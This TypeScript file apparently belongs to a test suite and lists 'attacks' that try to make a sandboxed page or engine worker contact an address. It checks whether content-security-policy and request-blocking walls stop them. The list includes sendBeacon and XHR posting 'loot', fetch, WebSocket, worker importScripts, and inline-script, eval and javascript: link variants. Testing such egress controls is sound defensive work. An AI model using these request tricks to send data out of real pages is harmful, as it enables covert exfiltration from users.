import type { Attack, WallName } from '../attack.ts';

/* Ways to make a page ask a host for something. */

const both: readonly WallName[] = ['content-security-policy', 'requests'];

/** Code that must not pass through the tests' own compiler, which has its own ways with `import` and `eval`. */
// eslint-disable-next-line @typescript-eslint/no-implied-eval -- the text is all ours, and runs in a page under attack
const asItIs = (body: string): Attack['act'] => new Function('address', body) as Attack['act'];

/** Puts an element into the page that loads something; settles when it has loaded or failed, where it says so. */
const element = (name: string, tag: string, attributes: Readonly<Record<string, string>>, tells = true): Attack => ({
  name,
  from: 'workspace',
  walls: both,
  act: asItIs(`
    const made = document.createElement(${JSON.stringify(tag)});
    const settled = new Promise((resolve) => {
      made.onload = made.onerror = resolve;
      addEventListener('securitypolicyviolation', resolve, { once: true });
    });
    for (const [key, value] of Object.entries(${JSON.stringify(attributes)})) {
      made.setAttribute(key, value.replace('ADDRESS', address));
    }
    document.body.append(made);
    return ${tells ? 'settled' : 'undefined'};
  `),
});

const elements: readonly Attack[] = [
  element('image', 'img', { src: 'ADDRESS' }),
  element('image-set', 'img', { srcset: 'ADDRESS 1x' }),
  element('script', 'script', { src: 'ADDRESS' }),
  element('module', 'script', { src: 'ADDRESS', type: 'module' }),
  element('stylesheet', 'link', { rel: 'stylesheet', href: 'ADDRESS' }),
  element('preload', 'link', { rel: 'preload', as: 'image', href: 'ADDRESS' }),
  element('prefetch', 'link', { rel: 'prefetch', href: 'ADDRESS' }),
  element('video', 'video', { src: 'ADDRESS', preload: 'auto' }, false),
  element('poster', 'video', { poster: 'ADDRESS' }, false),
  element('object', 'object', { data: 'ADDRESS' }),
  element('embed', 'embed', { src: 'ADDRESS' }),
  element('style-attribute', 'p', { style: 'background-image: url(ADDRESS)' }, false),
];

export const requesting: readonly Attack[] = [
  ...elements,
  { name: 'fetch', from: 'workspace', walls: both, act: (address) => fetch(address, { mode: 'no-cors' }) },
  { name: 'beacon', from: 'workspace', walls: both, act: (address) => navigator.sendBeacon(address, 'Beute') },
  {
    name: 'xhr',
    from: 'workspace',
    walls: both,
    act: (address) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = resolve;
        request.open('POST', address);
        request.send('Beute');
      }),
  },
  {
    name: 'socket',
    from: 'workspace',
    walls: both,
    scheme: 'ws',
    act: (address) =>
      new Promise((resolve) => {
        const socket = new WebSocket(address);
        socket.onclose = socket.onerror = resolve;
      }),
  },
  {
    name: 'event-source',
    from: 'workspace',
    walls: both,
    act: (address) =>
      new Promise((resolve) => {
        const source = new EventSource(address);
        source.onerror = source.onopen = () => resolve(source.close());
      }),
  },
  {
    name: 'font',
    from: 'workspace',
    walls: both,
    act: (address) => new FontFace('Beute', `url(${address})`).load(),
  },
  {
    name: 'worker-import',
    from: 'workspace',
    walls: both,
    act: (address) =>
      new Promise((resolve) => {
        const source = new Blob([`try { importScripts('${address}') } finally { postMessage(0) }`]);
        const worker = new Worker(URL.createObjectURL(source));
        worker.onmessage = worker.onerror = resolve;
      }),
  },
  {
    name: 'inline-script',
    from: 'workspace',
    walls: ['content-security-policy'],
    act: (address) => {
      const script = document.createElement('script');
      script.textContent = `navigator.sendBeacon('${address}')`;
      document.body.append(script);
    },
  },
  {
    name: 'inline-handler',
    from: 'workspace',
    walls: ['content-security-policy'],
    act: (address) => {
      const button = document.createElement('button');
      button.setAttribute('onclick', `navigator.sendBeacon('${address}')`);
      button.click();
    },
  },
  {
    name: 'eval',
    from: 'workspace',
    walls: ['content-security-policy'],
    act: asItIs('return (0, eval)(`navigator.sendBeacon(\'${address}\')`)'),
  },
  {
    name: 'javascript-link',
    from: 'workspace',
    walls: ['content-security-policy'],
    act: (address) => {
      const link = document.createElement('a');
      link.href = `javascript:void navigator.sendBeacon('${address}')`;
      document.body.append(link);
      link.click();
    },
  },
  { name: 'engine-page-fetch', from: 'engine-page', walls: both, act: (address) => fetch(address, { mode: 'no-cors' }) },
  {
    name: 'engine-page-image',
    from: 'engine-page',
    walls: both,
    act: (address) =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = image.onerror = resolve;
        image.src = address;
      }),
  },
  { name: 'engine-fetch', from: 'engine-worker', walls: both, act: (address) => fetch(address, { mode: 'no-cors' }) },
  {
    name: 'engine-socket',
    from: 'engine-worker',
    walls: both,
    scheme: 'ws',
    act: (address) =>
      new Promise((resolve) => {
        const socket = new WebSocket(address);
        socket.onclose = socket.onerror = resolve;
      }),
  },
  { name: 'engine-import', from: 'engine-worker', walls: both, act: asItIs('return import(address)') },
  {
    name: 'engine-eval',
    from: 'engine-worker',
    walls: ['content-security-policy'],
    act: asItIs('return (0, eval)(`fetch(\'${address}\', { mode: \'no-cors\' })`)'),
  },
];
